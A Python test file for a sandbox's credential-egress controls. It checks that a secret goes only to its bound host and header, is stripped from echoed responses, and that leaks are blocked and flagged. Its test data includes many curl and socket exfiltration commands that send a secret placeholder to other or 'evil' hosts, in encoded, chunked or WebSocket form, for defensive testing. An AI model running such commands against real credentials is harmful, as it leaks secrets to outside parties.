"""A real credential stays outside: it is put into the right request, taken out of every answer, and is nowhere inside."""

from __future__ import annotations

import secrets
from base64 import b64encode
from collections.abc import Iterator

import pytest

from cloche.client import Sandbox
from cloche.wire.egress import EgressRecord, EgressRule
from tests.promises.egress.worlds import EVIL, OTHER, WEB, World, needs_clients, needs_world
from tests.promises.nodes import RealNode

pytestmark = [needs_world, needs_clients, pytest.mark.timeout(180)]

NAME = "SERVICE_KEY"
BEARER = {"kind": "header", "name": "authorization", "format": "Bearer {}"}
USE = f'curl -sS -H "Authorization: Bearer ${NAME}" '


@pytest.fixture(scope="module")
def value(node: RealNode) -> str:
    """What must never be found anywhere; bound to `web.test` and one header."""
    made = f"real-{secrets.token_hex(20)}"
    with node.client() as client:
        client.secrets.set(NAME, made, hosts=[WEB], places=[BEARER])
    return made


@pytest.fixture(scope="module")
def box(node: RealNode, value: str) -> Iterator[Sandbox]:
    """It may reach both hosts, and both are looked into; the secret is bound to one of them."""
    rules = [WEB, EgressRule(host=OTHER, intercept=True)]
    with node.sandbox(image="clients", memory_mb=512, cpus=2, egress=rules, secrets=[NAME]) as made:
        yield made


def forms(value: bytes) -> tuple[bytes, ...]:
    """As it is, in hex, and in base64 wherever it may begin."""
    shifted = [b64encode(b"\0" * pad + value)[(0, 4, 4)[pad] : -4] for pad in range(3)]
    return (value, value.hex().encode(), *shifted)


def placeholder(box: Sandbox) -> str:
    return box.run(["sh", "-c", f'printf %s "${NAME}"'], check=True).stdout


def alerts(box: Sandbox, after: int) -> list[EgressRecord]:
    return [record for record in box.egress.records(after=after) if record.verdict == "alert"]


def last(box: Sandbox) -> int:
    return max((record.seq for record in box.egress.records()), default=0)


@pytest.mark.req("SEC-1")
@pytest.mark.req("SEC-2")
def test_the_right_request_carries_it_and_the_inside_never_does(box: Sandbox, earth: World, value: str) -> None:
    held = placeholder(box)
    assert held.startswith("cloche_ph_")
    for version in ("--http1.1", "--http2"):
        earth.forget()
        result = box.run(f"{USE} {version} https://{WEB}/headers", timeout_s=30, check=True)
        (request,) = earth.requests()
        assert ["authorization", f"Bearer {value}"] in request["headers"], request
        assert value not in result.stdout + result.stderr, "the server sent it back: it is taken out"


@pytest.mark.req("SEC-3")
def test_a_server_that_echoes_it_in_every_form(box: Sandbox, value: str) -> None:
    """Header, cookie, redirect, body; plain, base64 at each alignment, hex, percent, JSON."""
    result = box.run(f"{USE} -i https://{WEB}/leak", timeout_s=30, check=True)
    assert "200" in result.stdout.split("\n")[0]
    found = [form for form in forms(value.encode()) if form in result.stdout_bytes]
    assert found == [], result.stdout
    followed = box.run(f"{USE} -L -w '%{{http_code}}' https://{WEB}/leak", timeout_s=30)
    assert value not in followed.stdout


WRONG = {
    "another host": USE + f"https://{OTHER}/take",
    "the query": f"curl -sS 'https://{WEB}/take?k='$PH",
    "the path": f"curl -sS https://{WEB}/take/$PH",
    "the body": f'curl -sS https://{WEB}/take -d "k=$PH"',
    "another header": f'curl -sS -H "X-Key: $PH" https://{WEB}/take',
    "a cookie": f'curl -sS -H "Cookie: k=$PH" https://{WEB}/take',
    "Basic, to the wrong place": f'curl -sS -u "user:$PH" https://{WEB}/take',
    "base64": f'curl -sS https://{WEB}/take -d "k=$(printf %s "$PH" | base64 -w0)"',
    "base64, shifted": f'curl -sS https://{WEB}/take -d "k=$(printf %s "xx$PH" | base64 -w0)"',
    "base64, to another host": f'curl -sS -H "X: $(printf %s "$PH" | base64 -w0)" https://{OTHER}/take',
    "hex": f'curl -sS https://{WEB}/take -d "k=$(printf %s "$PH" | od -An -tx1 | tr -d " \\n")"',
    "percent": f'curl -sS https://{WEB}/take -d "k=$(printf %s "$PH" | sed s/_/%5F/g)"',
    "gzip": f'printf %s "$PH" | gzip | curl -sS -H "Content-Encoding: gzip" --data-binary @- https://{WEB}/take',
    "another host, HTTP/2": f'curl -sS --http2 -d "k=$PH" https://{OTHER}/take',
    "plain HTTP": f'curl -sS -d "k=$PH" http://{WEB}/take',
    "plain HTTP, another host": f'curl -sS -H "Authorization: Bearer $PH" http://{OTHER}/take',
    "a name": f'curl -sS "https://$PH.{EVIL}/take"',
    "a name, without a proxy": f"""curl -sS --noproxy '*' "https://$PH.{WEB}/take" """,
    "after a redirect": f'curl -sS -L --location-trusted -H "Authorization: Bearer $PH" '
    f"'https://{WEB}/to?url=https://{OTHER}/take'",
}
SPLIT = """
import os, ssl, socket, sys, time
s = socket.create_connection((sys.argv[1], 443))
s = ssl.create_default_context().wrap_socket(s, server_hostname=sys.argv[1])
ph = os.environ["SERVICE_KEY"].encode()
s.sendall(b"POST /take HTTP/1.1\\r\\nHost: " + sys.argv[1].encode() + b"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
for byte in range(0, len(ph), 3):
    part = ph[byte:byte + 3]
    s.sendall(b"%x\\r\\n%s\\r\\n" % (len(part), part))
    time.sleep(0.01)
s.sendall(b"0\\r\\n\\r\\n")
print(s.recv(1000))
"""
CHAT = """
import asyncio, os, sys, websockets
async def main():
    async with websockets.connect(sys.argv[1]) as chat:
        await chat.send("k=" + os.environ["SERVICE_KEY"])
        print(await chat.recv())
asyncio.run(main())
"""


@pytest.mark.req("SEC-3")
@pytest.mark.parametrize("where", WRONG)
def test_a_placeholder_elsewhere_is_blocked_and_an_alert(box: Sandbox, earth: World, value: str, where: str) -> None:
    earth.forget()
    before = last(box)
    result = box.run(f'PH="${NAME}"; {WRONG[where]}', timeout_s=30)
    nothing_leaked(box, earth, value)
    found = alerts(box, before)
    assert [(record.code, "SERVICE_KEY" in record.text) for record in found][:1] == [("placeholder_elsewhere", True)], (
        result.stdout,
        box.egress.records(after=before),
    )


def nothing_leaked(box: Sandbox, earth: World, value: str) -> None:
    """Neither the value nor the placeholder reached any server, but where both belong."""
    held = placeholder(box)
    for request in earth.requests():
        text = str(request)
        assert held not in text, request
        if value in text:
            assert request["path"] == "/to", request
    assert earth.evil.is_untouched, str(earth.evil)


@pytest.mark.req("SEC-3")
@pytest.mark.parametrize("how", ["chunks", "messages"])
def test_a_placeholder_in_pieces_is_still_seen(box: Sandbox, earth: World, value: str, how: str) -> None:
    """Three bytes to a chunk; and in a WebSocket message."""
    for host in (OTHER, WEB):
        script, target = (SPLIT, host) if how == "chunks" else (CHAT, f"wss://{host}/chat")
        earth.forget()
        before = last(box)
        box.run(["python3", "-c", script, target], timeout_s=30)
        nothing_leaked(box, earth, value)
        assert [record.code for record in alerts(box, before)][:1] == ["placeholder_elsewhere"], target
        whole = "".join(str(request.get("body")) for request in earth.requests())
        assert placeholder(box) not in whole


HASTY = """
import os, socket, ssl, sys
s = ssl.create_default_context().wrap_socket(socket.create_connection((sys.argv[1], 443)), server_hostname=sys.argv[1])
s.sendall(f"GET /take?k={os.environ['SERVICE_KEY']} HTTP/1.1\\r\\nHost: {sys.argv[1]}\\r\\n\\r\\n".encode())
os._exit(0)
"""


@pytest.mark.req("SEC-3")
def test_a_program_that_does_not_wait_for_its_answer(box: Sandbox, earth: World, long_run: bool) -> None:
    """It has ended before anybody could look at what it sent; its denials are in its result all the same."""
    earth.forget()
    for _ in range(50 if long_run else 5):
        result = box.run(["python3", "-c", HASTY, OTHER], timeout_s=30, check=True)
        assert [denial.code for denial in result.denials] == ["placeholder_elsewhere"] * 2, result
        assert [denial.verdict for denial in result.denials] == ["alert", "denied"]
    assert earth.requests() == []


@pytest.mark.req("SEC-3")
def test_with_a_secret_no_host_is_reached_unseen(node: RealNode, earth: World, value: str) -> None:
    """A rule for a plain host gives an opaque tunnel; beside a secret it does not, so that a placeholder cannot leave in one."""
    with node.sandbox(image="clients", memory_mb=512, cpus=2, egress=[WEB, OTHER], secrets=[NAME]) as box:
        earth.forget()
        box.run(f"{USE} -k https://{OTHER}/take", timeout_s=30)
        assert earth.requests() == []
        assert [record.code for record in alerts(box, 0)] == ["placeholder_elsewhere"]
        assert box.info().egress.fronting == "closed"


@pytest.mark.req("SEC-2")
@pytest.mark.req("SEC-3")
def test_method_path_and_a_foreign_key(node: RealNode, earth: World) -> None:
    """Bound to GET below /v1: nothing else gets it. `require`: no other credential goes to that host."""
    real = f"real-{secrets.token_hex(20)}"
    with node.client() as client:
        client.secrets.set(
            "NARROW_KEY", real, hosts=[WEB], places=[BEARER], methods=["GET"], paths=["/v1/**"], require=True
        )
    with node.sandbox(image="clients", memory_mb=512, cpus=2, egress=[WEB], secrets=["NARROW_KEY"]) as narrow:
        key = '-H "Authorization: Bearer $NARROW_KEY"'
        tries = {
            f"curl -sS {key} https://{WEB}/v1/files": "v1",
            f"curl -sS {key} -X POST https://{WEB}/v1/files": None,
            f"curl -sS {key} https://{WEB}/v2/files": None,
            f"curl -sS {key} --path-as-is https://{WEB}/v1/../v2/files": None,
            f"curl -sS -H 'Authorization: Bearer attackers-own-key' https://{WEB}/v1/files": None,
            f"curl -sS -u attacker:key https://{WEB}/v1/files": None,
        }
        for line, reaches in tries.items():
            earth.forget()
            narrow.run(line, timeout_s=30)
            got = [dict(request["headers"]).get("authorization") for request in earth.requests()]
            assert got == ([f"Bearer {real}"] if reaches else []), line
        codes = {record.code for record in narrow.egress.records() if record.verdict in ("alert", "denied")}
        assert codes >= {"placeholder_elsewhere", "foreign_credential"}, codes


def test_the_forms_that_are_looked_for() -> None:
    """A scan that cannot see an encoded value would prove nothing."""
    value = b"real-0123456789"
    for pad in (b"", b"a", b"ab"):
        assert any(form in b64encode(pad + value + b"zz") for form in forms(value))
